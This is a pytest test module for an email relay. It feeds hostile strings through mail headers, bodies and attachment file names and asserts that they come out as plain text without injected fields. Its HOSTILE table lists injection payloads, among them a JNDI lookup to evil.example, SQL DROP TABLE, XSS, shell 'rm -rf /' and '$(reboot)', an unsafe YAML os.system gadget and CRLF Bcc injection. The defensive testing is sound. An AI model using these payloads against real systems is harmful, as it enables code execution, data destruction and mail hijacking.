"""Sections F23 to F27, F45 and F59 of the list: what strangers write into subjects, names and files, seen at the relay.

Each case goes in through the listener; judged are the very bytes of every mail that came out of it.
"""

import asyncio
import base64
import email
import smtplib
from email.message import EmailMessage
from email.policy import SMTP, default

import pytest
from sqlalchemy import func, select

from gateway.last_look import flaw
from store.schema import delivery
from templates.headers import OURS
from tests.hostile.post import EVE, hand_over, new, raw
from tests.running import HOST
from tests.scenarios.house import ANNA, KARIM, MARIE, SUPPORT, House, Mail

SENTENCE = "I can not log in"
HOSTILE = {
    "F45a Jinja": "{{ 7 * 7 }} {% for x in range(9) %}",
    "F45b format": "{0.__class__} %s%n ${jndi:ldap://evil.example/x}",
    "F45c SQL": "x'); DROP TABLE ticket; --",
    "F45d a formula": "=HYPERLINK(\"http://evil.example\")+cmd|' /C calc'!A0",
    "F45e HTML": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "F45f ANSI": "\x1b[2J\x1b[31mred",
    "F45g log forging": "ok\r\n2026-11-06 accepted delivery=99",
    "F45h bidi": "invoice \u202egpj.exe",
    "F45i shell": "$(reboot) `id` ; rm -rf / |",
    "F45j YAML": "- !!python/object/apply:os.system ['id'] # &x *x",
    "F25 an encoded CR LF": "a\r\nBcc: eve@evil.example\r\n\r\nbody",
    "F27 NUL, ESC, U+2028": "a\x00b\x1bc\u2028d\x85e",
    "an encoded word in an encoded word": "=?utf-8?q?a=0D=0ABcc=3A_eve?=",
}


def hostile_mail(number: str, text: str) -> bytes:
    """A mail that says `text` in every place that a person can fill."""
    word = f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="
    mail = EmailMessage(policy=SMTP)
    mail.set_content(f"{text}\r\n{SENTENCE}\r\n".replace("\x00", ""))
    mail.add_attachment(b"data", maintype="application", subtype="octet-stream", filename="file.bin")
    body = mail.as_bytes().replace(b'filename="file.bin"', f'filename="{word}"'.encode())
    head = (
        f"From: {word} <{EVE}>",
        f"To: {word} <{SUPPORT}>",
        f"Subject: {word}",
        f"Message-ID: <{number}@evil.example>",
    )
    more = ("Bcc: hidden@evil.example", "X-Injected: yes", f"Reply-To: {word} <reply@evil.example>")
    return raw(*head, *more, "Date: Fri, 6 Nov 2026 09:00:00 +0000", body="").rstrip(b"\r\n") + b"\r\n" + body


def refusal(port: int, content: bytes) -> int:
    """What is said after the dot to exactly these bytes, which smtplib would have mended."""
    with smtplib.SMTP(HOST, port, timeout=20) as client:
        client.helo("evil.example")
        client.mail(EVE)
        client.rcpt(SUPPORT)
        client.docmd("DATA")
        client.send(content)
        return client.getreply()[0]


def judge(one: Mail) -> None:
    """Sound bytes, fields that are all ours and stand once, one subject, and nothing that somebody else put in."""
    mail = email.message_from_bytes(one.raw, policy=default)
    names = [name.lower().encode() for name in mail]

    assert flaw(one.raw) == ""
    assert len(names) == len(set(names))
    assert set(names) <= OURS
    assert mail["Bcc"] is None
    assert b"hidden@evil.example" not in one.raw.partition(b"\r\n\r\n")[0]
    assert not {character for value in mail.values() for character in str(value)} & set("\r\n\0\x1b\x85\u2028\u202e")


@pytest.mark.parametrize("case", HOSTILE)
async def test_what_strangers_write_is_text(house: House, case: str) -> None:
    """In header, text and file name it comes out as the letters that it is, to whoever is told, and adds no field."""
    text = HOSTILE[case]
    await hand_over(house, hostile_mail("one", text), to=[SUPPORT])
    await house.settled()
    for one in house.got():
        judge(one)
        assert one.subject.startswith("Re: [TKT-00001]")
        if one.recipient in (MARIE, KARIM):
            assert SENTENCE in one.text
            visible = [word for word in text.split() if word.isprintable() and word.isascii() and "=?" not in word]
            assert all(word in one.text for word in visible if "\x1b" not in word)
        else:
            # the confirmation has no foreign text
            assert (one.recipient, max(text.split(), key=len) in one.text) == (EVE, False)


async def test_bare_line_ends_and_hidden_recipients(house: House) -> None:
    """F23, F24: refused at the listener. F59: a Bcc of theirs is no recipient of ours, nor are Resent- fields."""
    for line in (b"Subject: a\rBcc: x@evil.example", b"Subject: a\nBcc: x@evil.example"):
        assert await asyncio.to_thread(refusal, house.port, new(line, number="bare") + b"\r\n.\r\n") == 550

    await hand_over(house, new("Bcc: x@evil.example", "Resent-To: y@evil.example", "Cc: z@evil.example", number="f59"))
    await house.settled()
    reached = {one.recipient for one in house.got()}

    assert (await house.rows(select(func.count()).select_from(delivery)))[0][0] == 1
    assert reached == {EVE, MARIE, KARIM}


async def test_what_looks_like_an_encoded_word_stays_outside(house: House) -> None:
    """A Message-ID and an address with `=?` in them, which some reader could decode, come into no field of ours."""
    odd = "<=?utf-8?q?=0D=0ABcc:_x?=@evil.example>"
    await hand_over(
        house, raw(f"From: <{EVE}>", f"To: {SUPPORT}", "Subject: odd", f"Message-ID: {odd}", f"References: {odd}")
    )
    await house.settled()
    seen = house.got()
    assert {one.recipient for one in seen} == {EVE, MARIE, KARIM}
    for one in seen:
        judge(one)

    await hand_over(
        house, raw("From: <=?utf-8?q?a?=@evil.example>", f"To: {SUPPORT}", "Subject: who", "Message-ID: <w@x>")
    )
    await house.settled()
    for one in house.got():
        judge(one)
        assert one.recipient in (MARIE, KARIM)


async def test_an_ordinary_mail_keeps_its_words(house: House) -> None:
    """Z: accents, emoji, a formula-like subject and a comma in a name come through as they were written."""
    subject = "Ça marche? -1 + 2 = 1 😀, “żółć”"
    await house.send(house.write("Zażółć gęślą jaźń.", subject=subject, who=ANNA, vouched=True))

    told = house.one(ANNA)
    assert told.subject == f"Re: [TKT-00001] {subject}"
    for one in (told, house.one(MARIE), house.one(KARIM)):
        judge(one)
